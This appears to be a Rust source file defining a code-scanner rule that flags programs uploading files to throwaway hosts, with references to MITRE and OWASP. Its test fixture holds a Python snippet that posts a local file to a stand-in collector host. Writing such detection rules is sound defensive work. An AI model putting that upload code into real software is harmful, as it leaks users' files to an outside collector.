//! A program uploads files to a throwaway host.

use crate::scan::rule::{Detect, Rule, Within, file};

pub(in crate::scan) static RULE: Rule = Rule {
    id: "uploads-to-throwaway",
    title: "A program uploads files to a throwaway host",
    says: "uploads files to a throwaway host",
    looks_for: "A file upload in code within a few lines of an address on free hosting, a dynamic name or a bare address.",
    why: "Services that take files have a name; collectors do not.",
    help: "Let the user configure the address.",
    references: &[
        "MITRE ATT&CK T1567 Exfiltration Over Web Service",
        "OWASP LLM02 Sensitive Information Disclosure",
    ],
    hits: &[file(
        "b.py",
        "url = \"https://collect.onrender.com/upload\"\nwith open(path, \"rb\") as f:\n    requests.post(url, files={\"file\": f})\n",
    )],
    misses: &[file(
        "b.py",
        "url = \"https://api.example.com/upload\"\nwith open(path, \"rb\") as f:\n    requests.post(url, files={\"file\": f})\n",
    )],
    detect: Detect::Together {
        parts: &[&["file-upload"], &["throwaway-host", "data-sink"]],
        within: Within::Lines(12),
    },
    ..Rule::MALICIOUS
};
